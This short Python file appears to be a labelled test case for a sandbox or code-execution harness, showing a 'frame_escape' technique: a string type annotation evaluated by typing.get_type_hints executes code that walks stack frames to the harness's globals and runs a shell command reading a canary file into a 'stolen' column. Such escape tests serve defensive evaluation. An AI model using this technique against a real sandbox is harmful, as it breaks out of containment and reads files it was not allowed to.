# class: frame_escape
# technique: a string annotation evaluated by typing.get_type_hints runs source text that calls sys._getframe and follows f_back to the harness's globals
# goal: exec
import typing

import numpy as np
import pandas as pd

source = """
import sys
f = sys._getframe(0)
while f.f_back is not None:
    f = f.f_back
out = f.f_globals['os'].popen(cmd).read()
"""
scope = {"cmd": "cat {{CANARY_FILE}}"}


def cell(x: "[exec(source, scope), int][-1]"):
    return x


typing.get_type_hints(cell)
df = pd.DataFrame({"stolen": [scope["out"]]})
